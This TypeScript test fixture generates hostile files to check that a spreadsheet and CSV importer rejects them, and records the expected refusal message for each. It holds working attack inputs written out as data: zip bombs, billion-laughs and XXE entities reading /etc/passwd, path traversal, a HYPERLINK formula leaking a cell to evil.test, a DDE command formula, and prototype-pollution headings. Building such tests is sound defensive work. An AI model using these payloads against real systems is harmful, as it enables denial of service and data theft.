/** Files that mean harm, or are none: each with what its refusal says. Made when they are asked for; some are large. */
import { strToU8, zlibSync } from 'fflate';
import { type BookSpec, bookParts, csv, encoded, packed, xlsx } from './files.ts';

export interface Hostile {
  readonly what: string;
  readonly make: () => Uint8Array;
  /** A piece of the sentence that refuses it. */
  readonly says: string;
}

const HEAD = ['姓名', '单位', '谈话类型', '情形', '决定日期'];
const ROW = ['孙成员', '云溪区财政局', '任职', '提拔', '2026-03-09'];
const book: BookSpec = { sheets: [{ name: '名单', rows: [HEAD, ROW] }] };
const SHEET = 'xl/worksheets/sheet1.xml';
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

/** The usual workbook with one part of it otherwise. */
const withPart = (name: string, bytes: Uint8Array | string): Uint8Array =>
  packed({ ...bookParts(book), [name]: typeof bytes === 'string' ? strToU8(bytes) : bytes }, 1);

const sheetOf = (inside: string, head = '<?xml version="1.0" encoding="UTF-8"?>'): Uint8Array =>
  withPart(SHEET, `${head}<worksheet xmlns="${MAIN}"><sheetData>${inside}</sheetData></worksheet>`);

const inline = (text: string, at: string): string =>
  `<c r="${at}" t="inlineStr"><is><t>${text}</t></is></c>`;

const headRow = `<row r="1">${HEAD.map((text, column) => inline(text, `${'ABCDE'[column] ?? ''}1`)).join('')}</row>`;

/** The bytes with some of them overwritten. */
function patched(bytes: Uint8Array, at: number, ...values: readonly number[]): Uint8Array {
  const copy = bytes.slice();
  copy.set(values, at);
  return copy;
}

/** Places of a mark in a package: `PK` and two bytes. */
function places(bytes: Uint8Array, one: number, two: number): readonly number[] {
  const found: number[] = [];
  for (let at = 0; at + 3 < bytes.length; at += 1) {
    if (
      bytes[at] === 0x50 &&
      bytes[at + 1] === 0x4b &&
      bytes[at + 2] === one &&
      bytes[at + 3] === two
    ) {
      found.push(at);
    }
  }
  return found;
}

const whole = xlsx(book);
const directory = places(whole, 1, 2);
const end = places(whole, 5, 6)[0] ?? 0;
const place = (index: number): number => directory[index] ?? 0;

function repeated(part: string, count: number): string {
  return part.repeat(count);
}

function rows(count: number, cells: (row: number) => string): string {
  const lines: string[] = [headRow];
  for (let row = 2; row <= count + 1; row += 1) lines.push(`<row r="${row}">${cells(row)}</row>`);
  return lines.join('');
}

/** Bytes without any order, the same each time. */
function noise(length: number, seed: number): Uint8Array {
  const bytes = new Uint8Array(length);
  let state = seed;
  for (let at = 0; at < length; at += 1) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    bytes[at] = state >>> 24;
  }
  return bytes;
}

const cutXlsx = [
  5,
  22,
  100,
  300,
  700,
  1000,
  whole.length - 40,
  whole.length - 23,
  whole.length - 1,
].map((length): Hostile => ({
  what: `an .xlsx cut after ${length} bytes`,
  make: () => whole.slice(0, length),
  says: '已损坏',
}));

/** Within the packed bytes of the sheet: the check sum tells. */
const flipped = [0, 3, 9, 17, 30, 60].map((offset): Hostile => {
  const index = places(whole, 3, 4).length - 1;
  const local = places(whole, 3, 4)[index] ?? 0;
  const data = local + 30 + (whole[local + 26] ?? 0) + (whole[local + 28] ?? 0) + offset;
  return {
    what: `an .xlsx with byte ${offset} of its sheet flipped`,
    make: () => patched(whole, data, (whole[data] ?? 0) ^ 0xff),
    says: '已损坏',
  };
});

const packages: readonly Hostile[] = [
  {
    what: 'a zip bomb: a sheet of 60 MB of nothing',
    make: () => withPart(SHEET, new Uint8Array(60 * 1024 * 1024)),
    says: '过大',
  },
  {
    what: 'a zip bomb: shared strings that shrink a thousand times',
    make: () => withPart('xl/sharedStrings.xml', repeated('<si><t>a</t></si>', 2_000_000)),
    says: '过大',
  },
  {
    what: 'a zip bomb that is no part of the workbook',
    make: () => withPart('xl/media/image1.png', new Uint8Array(30 * 1024 * 1024)),
    says: '过大',
  },
  {
    what: 'ten parts that say they have 30 MB each',
    make: () => {
      const parts = bookParts(book);
      for (let part = 0; part < 10; part += 1) parts[`xl/media/${part}.bin`] = noise(200_000, part);
      return places(packed(parts, 1), 1, 2)
        .slice(-10)
        .reduce((bytes, at) => patched(bytes, at + 24, 0, 0, 0xe0, 1), packed(parts, 1));
    },
    says: '过大',
  },
  {
    what: 'a part that says it is small and is not',
    make: () => {
      const bytes = withPart(SHEET, repeated('<row/>', 3_000_000));
      const at = places(bytes, 1, 2).find(
        (from) =>
          new TextDecoder().decode(bytes.subarray(from + 46, from + 46 + SHEET.length)) === SHEET,
      );
      return patched(bytes, (at ?? 0) + 24, 0, 4, 0, 0);
    },
    says: '过大',
  },
  {
    what: 'a part that says it is larger than it is',
    make: () => patched(whole, place(6) + 24, 0, 0, 1, 0),
    says: '已损坏',
  },
  {
    what: 'a part that says it has four gigabytes',
    make: () => patched(whole, place(2) + 24, 0xff, 0xff, 0xff, 0xfe),
    says: '过大',
  },
  {
    what: 'parts that lie over one another',
    make: () => {
      const [first] = places(whole, 3, 4);
      const at = new DataView(new ArrayBuffer(4));
      at.setUint32(0, first ?? 0, true);
      return patched(whole, place(5) + 42, ...new Uint8Array(at.buffer));
    },
    says: '已损坏',
  },
  {
    what: 'two thousand parts',
    make: () => {
      const parts = bookParts(book);
      for (let part = 0; part < 2000; part += 1) parts[`x/${part}`] = Uint8Array.of(1);
      return packed(parts);
    },
    says: '过大',
  },
  {
    what: 'one part twice',
    make: () => {
      const bytes = packed({ ...bookParts(book), 'xl/workbook.xmk': strToU8('<a/>') });
      const last = places(bytes, 1, 2).find(
        (from) => bytes[from + 46 + 'xl/workbook.xm'.length] === 0x6b,
      );
      return patched(bytes, (last ?? 0) + 46 + 'xl/workbook.xm'.length, 0x6c);
    },
    says: '已损坏',
  },
  {
    what: 'an encrypted part',
    make: () => patched(whole, place(3) + 8, 1),
    says: '密码',
  },
  {
    what: 'a part packed in a way that nobody uses',
    make: () => patched(whole, place(2) + 10, 14),
    says: '已损坏',
  },
  {
    what: 'a directory that says it is elsewhere',
    make: () => patched(whole, end + 16, 0xff, 0xff, 0, 0),
    says: '已损坏',
  },
  {
    what: 'a directory that says it has more parts',
    make: () => patched(whole, end + 8, 200, 0, 200, 0),
    says: '已损坏',
  },
  {
    what: 'a package on several disks',
    make: () => patched(whole, end + 4, 3),
    says: '已损坏',
  },
  {
    what: 'the marks of a package of more than four gigabytes',
    make: () => patched(whole, end + 8, 0xff, 0xff, 0xff, 0xff),
    says: '过大',
  },
  {
    what: 'a part that begins beyond the end of the file',
    make: () => patched(whole, place(1) + 42, 0xff, 0xff, 0xff, 0x7f),
    says: '已损坏',
  },
  { what: 'a package without a directory', make: () => whole.slice(0, place(0)), says: '已损坏' },
  { what: 'nothing but the end of a package', make: () => whole.slice(end), says: '已损坏' },
  {
    what: 'a .docx that is called .xlsx',
    make: () =>
      packed({
        '_rels/.rels': strToU8(rel('word/document.xml')),
        'word/document.xml': strToU8('<w/>'),
      }),
    says: '工作表',
  },
  {
    what: 'any other package',
    make: () => packed({ 'readme.txt': strToU8('hello') }),
    says: '工作表',
  },
  {
    what: 'a workbook without sheets',
    make: () => withPart('xl/workbook.xml', `<workbook xmlns="${MAIN}"><sheets/></workbook>`),
    says: '工作表',
  },
  {
    what: 'a workbook whose sheets are all hidden',
    make: () => xlsx({ sheets: [{ name: 'a', hidden: true, rows: [HEAD, ROW] }] }),
    says: '工作表',
  },
  {
    what: 'a workbook whose sheet is somewhere in the network',
    make: () =>
      withPart(
        'xl/_rels/workbook.xml.rels',
        `<Relationships><Relationship Id="rId1" Type="x/worksheet" TargetMode="External" Target="http://evil.test/sheet1.xml"/></Relationships>`,
      ),
    says: '工作表',
  },
  {
    what: 'a workbook whose sheet lies outside of it',
    make: () =>
      withPart(
        'xl/_rels/workbook.xml.rels',
        `<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="../../../../etc/passwd"/></Relationships>`,
      ),
    says: '工作表',
  },
];

function rel(target: string): string {
  return `<Relationships><Relationship Id="rId1" Type="x/officeDocument" Target="${target}"/></Relationships>`;
}

const sheets: readonly Hostile[] = [
  {
    what: 'elements in one another, a hundred thousand deep',
    make: () => withPart(SHEET, repeated('<a>', 100_000)),
    says: '嵌套过深',
  },
  {
    what: 'elements in one another inside a cell',
    make: () => sheetOf(`<row r="1"><c r="A1">${repeated('<is>', 5000)}`),
    says: '嵌套过深',
  },
  {
    what: 'deep shared strings',
    make: () => withPart('xl/sharedStrings.xml', `<sst>${repeated('<r>', 200)}`),
    says: '嵌套过深',
  },
  {
    what: 'a billion laughs',
    make: () =>
      sheetOf(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row>',
        '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY e "&b;&b;&b;&b;">]>',
      ),
    says: '不允许的声明',
  },
  {
    what: 'an entity from a file of the reader',
    make: () => sheetOf('', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    says: '不允许的声明',
  },
  {
    what: 'a declaration in the shared strings',
    make: () =>
      withPart('xl/sharedStrings.xml', '<!DOCTYPE sst SYSTEM "http://evil.test/x.dtd"><sst/>'),
    says: '不允许的声明',
  },
  {
    what: 'a declaration in the workbook',
    make: () => withPart('xl/workbook.xml', '<!DOCTYPE workbook><workbook/>'),
    says: '不允许的声明',
  },
  {
    what: 'an entity that nobody declared',
    make: () => sheetOf(`<row r="1">${inline('&evil;', 'A1')}</row>`),
    says: '已损坏',
  },
  {
    what: 'a character beyond the last',
    make: () => sheetOf(`<row r="1">${inline('&#x110000;', 'A1')}</row>`),
    says: '已损坏',
  },
  {
    what: 'an element that does not end',
    make: () => withPart(SHEET, '<worksheet><sheetData>'),
    says: '已损坏',
  },
  {
    what: 'elements that cross',
    make: () => withPart(SHEET, '<worksheet><a><b></a></b></worksheet>'),
    says: '已损坏',
  },
  {
    what: 'a tag that does not end',
    make: () => withPart(SHEET, '<worksheet><row r="1"'),
    says: '已损坏',
  },
  {
    what: 'a comment that does not end',
    make: () => withPart(SHEET, '<worksheet><!-- '),
    says: '已损坏',
  },
  {
    what: 'a CDATA that does not end',
    make: () => withPart(SHEET, '<worksheet><![CDATA[ '),
    says: '已损坏',
  },
  {
    what: 'an attribute of a megabyte',
    make: () => withPart(SHEET, `<worksheet a="${repeated('a', 1_000_000)}"/>`),
    says: '过大',
  },
  {
    what: 'a tag with quotes that never close',
    make: () => withPart(SHEET, `<worksheet a="${repeated('>', 50_000)}`),
    says: '过大',
  },
  { what: 'text instead of a sheet', make: () => withPart(SHEET, 'hello'), says: '已损坏' },
  { what: 'an empty sheet part', make: () => withPart(SHEET, ''), says: '已损坏' },
  {
    what: 'a sheet in UTF-16',
    make: () => withPart(SHEET, encoded('<worksheet/>', 'utf-16')),
    says: '编码',
  },
  {
    what: 'a sheet that says it is in GB2312',
    make: () => withPart(SHEET, '<?xml version="1.0" encoding="GB2312"?><worksheet/>'),
    says: '编码',
  },
  {
    what: 'a sheet with bytes that are no UTF-8',
    make: () =>
      withPart(SHEET, Uint8Array.of(0x3c, 0x61, 0x3e, 0xc3, 0x28, 0x3c, 0x2f, 0x61, 0x3e)),
    says: '编码',
  },
  {
    what: 'a sheet cut in a character',
    make: () => withPart(SHEET, strToU8('<worksheet>单').slice(0, -1)),
    says: '编码',
  },
  {
    what: 'a million rows',
    make: () =>
      withPart(
        SHEET,
        `<worksheet><sheetData>${rows(1_000_000, (row) => `<c r="A${row}"><v>${row}</v></c>`)}</sheetData></worksheet>`,
      ),
    says: '行',
  },
  {
    what: 'thirty thousand rows of people',
    make: () =>
      withPart(
        SHEET,
        `<worksheet><sheetData>${rows(30_000, (row) => inline('孙成员', `A${row}`))}</sheetData></worksheet>`,
      ),
    says: '25,000 行',
  },
  {
    what: 'a row beyond the last',
    make: () => sheetOf(`<row r="99999999">${inline('a', 'A99999999')}</row>`),
    says: '行',
  },
  {
    what: 'rows that go backwards',
    make: () => sheetOf('<row r="5"/><row r="4"/>'),
    says: '已损坏',
  },
  { what: 'a row with no number', make: () => sheetOf('<row r="x"/>'), says: '已损坏' },
  {
    what: 'sixteen thousand columns',
    make: () => sheetOf(`<row r="1">${inline('a', 'XFD1')}</row>`),
    says: '256 列',
  },
  {
    what: 'a column beyond all',
    make: () => sheetOf(`<row r="1">${inline('a', 'ZZZZ1')}</row>`),
    says: '已损坏',
  },
  {
    what: 'a cell at no place',
    make: () => sheetOf(`<row r="1">${inline('a', '1A')}</row>`),
    says: '已损坏',
  },
  {
    what: 'a string that is not in the table',
    make: () => sheetOf('<row r="1"><c r="A1" t="s"><v>999999</v></c></row>'),
    says: '已损坏',
  },
  {
    what: 'a cell of a megabyte',
    make: () => sheetOf(`<row r="1">${inline(repeated('字', 500_000), 'A1')}</row>`),
    says: '过大',
  },
  {
    what: 'a hundred thousand merged cells',
    make: () =>
      withPart(
        SHEET,
        `<worksheet><sheetData/><mergeCells>${Array.from({ length: 100_000 }, (_, at) => `<mergeCell ref="A${at * 2 + 1}:A${at * 2 + 2}"/>`).join('')}</mergeCells></worksheet>`,
      ),
    says: '过大',
  },
  {
    what: 'two million cells',
    make: () =>
      withPart(
        SHEET,
        `<worksheet><sheetData>${rows(20_000, () => repeated('<c><v>1</v></c>', 100))}</sheetData></worksheet>`,
      ),
    says: '过大',
  },
  ...['A', 'B', 'E'].map((column): Hostile => {
    const at = column.charCodeAt(0) - 65;
    return {
      what: `a formula in column ${column}`,
      make: () =>
        xlsx({
          sheets: [
            {
              name: 'a',
              rows: [
                HEAD,
                ROW,
                ROW.map((text, index) =>
                  index === at
                    ? { formula: `HYPERLINK("http://evil.test/"&A2)`, value: text }
                    : text,
                ),
              ],
            },
          ],
        }),
      says: `${column}3 等单元格是公式`,
    };
  }),
  {
    what: 'a formula that calls a program',
    make: () =>
      xlsx({
        sheets: [{ name: 'a', rows: [HEAD, [{ formula: `cmd|'/c calc'!A0` }, ...ROW.slice(1)]] }],
      }),
    says: 'A2 等单元格是公式',
  },
];

const texts: readonly Hostile[] = [
  { what: 'an empty file', make: () => new Uint8Array(), says: '没有内容' },
  { what: 'a mark and nothing else', make: () => encoded('', 'utf-8 with mark'), says: '没有内容' },
  { what: 'empty lines', make: () => strToU8('\r\n\r\n,,,\r\n'), says: '没有内容' },
  {
    what: 'an empty sheet',
    make: () => xlsx({ sheets: [{ name: 'a', rows: [] }] }),
    says: '没有内容',
  },
  { what: 'eleven megabytes', make: () => new Uint8Array(11 * 1024 * 1024), says: '10 MB' },
  {
    what: 'a million lines',
    make: () => strToU8(`姓名,单位\n${repeated('a,b\n', 1_000_000)}`),
    says: '25,000 行',
  },
  {
    what: 'nine megabytes in one line',
    make: () => strToU8(repeated('甲,', 2_200_000)),
    says: '256 列',
  },
  {
    what: 'nine megabytes in one cell',
    make: () => strToU8(`姓名,单位\n${repeated('a', 9_000_000)}`),
    says: '过大',
  },
  {
    what: 'nine megabytes behind a quote',
    make: () => strToU8(`姓名,单位\n"${repeated('a\n', 4_500_000)}`),
    says: '引号',
  },
  {
    what: 'quotes that do not close',
    make: () => strToU8(`${HEAD.join()}\n"孙成员,云溪区财政局`),
    says: '引号',
  },
  {
    what: 'a soup of quotes',
    make: () => strToU8(`${HEAD.join()}\n${repeated('"a"b",', 1000)}`),
    says: '引号',
  },
  {
    what: 'a megabyte of quotes',
    make: () => strToU8(`${HEAD.join()}\n${repeated('"', 1_000_001)}`),
    says: '',
  },
  { what: 'ten thousand columns', make: () => strToU8(repeated('姓名,', 10_000)), says: '256 列' },
  { what: 'a text with NUL in it', make: () => strToU8('姓名,单位\n孙\u0000成员,a'), says: '编码' },
  {
    what: 'UTF-16 without its mark',
    make: () => encoded('姓名,单位', 'utf-16').slice(2),
    says: '',
  },
  { what: 'UTF-32', make: () => Uint8Array.of(0xff, 0xfe, 0, 0, 0x3a, 0x4e, 0, 0), says: '编码' },
  {
    what: 'UTF-8 cut in a character',
    make: () => strToU8('姓名,单位\n孙成员').slice(0, -1),
    says: '',
  },
  {
    what: 'GB18030 cut in a character',
    make: () => encoded('姓名,单位,谈话类型\n孙成员,财政局,𠮷', 'gb18030').slice(0, -2),
    says: '编码',
  },
  {
    what: 'a picture (PNG)',
    make: () => Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 0, 0, 0, 13),
    says: '编码',
  },
  {
    what: 'a picture (JPEG)',
    make: () => Uint8Array.of(0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46),
    says: '编码',
  },
  { what: 'a PDF', make: () => strToU8('%PDF-1.7\n%\u0080\u0001\n1 0 obj\n<<>>'), says: '' },
  { what: 'a program', make: () => Uint8Array.of(0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0), says: '编码' },
  {
    what: 'an old .xls',
    make: () => Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1),
    says: '.xls',
  },
  {
    what: 'a packed stream without a package',
    make: () => zlibSync(strToU8('姓名,单位')),
    says: '',
  },
  {
    what: 'a page that is called .csv',
    make: () => strToU8('<html><table><tr><td>姓名</td></tr></table></html>'),
    says: '没有找到',
  },
  { what: 'JSON that is called .csv', make: () => strToU8('[{"姓名":"孙成员"}]'), says: '' },
  { what: 'a list without headings', make: () => csv([ROW, ROW]), says: '没有找到“姓名”' },
  {
    what: 'a list that names its people twice',
    make: () =>
      csv([
        ['姓名', ...HEAD],
        ['甲', ...ROW],
      ]),
    says: '重复出现',
  },
  ...[
    '__proto__',
    'constructor',
    'prototype',
    '＿＿proto＿＿',
    ' __PROTO__ ',
    'con\u200Bstructor',
  ].map((heading): Hostile => ({
    what: `the heading ${JSON.stringify(heading)}`,
    make: () =>
      csv([
        [...HEAD, heading],
        [...ROW, 'x'],
      ]),
    says: '不能使用',
  })),
  {
    what: 'the heading __proto__ in an .xlsx',
    make: () =>
      xlsx({
        sheets: [
          {
            name: 'a',
            rows: [
              [...HEAD, '__proto__'],
              [...ROW, 'x'],
            ],
          },
        ],
      }),
    says: '不能使用',
  },
  ...[1, 7, 42].map((seed): Hostile => ({
    what: `noise ${seed}`,
    make: () => noise(200_000, seed),
    says: '编码',
  })),
  ...[3, 8].map((seed): Hostile => ({
    what: `noise ${seed} that begins like a package`,
    make: () => patched(noise(200_000, seed), 0, 0x50, 0x4b, 3, 4),
    says: '已损坏',
  })),
];

export const hostile: readonly Hostile[] = [
  ...cutXlsx,
  ...flipped,
  ...packages,
  ...sheets,
  ...texts,
];
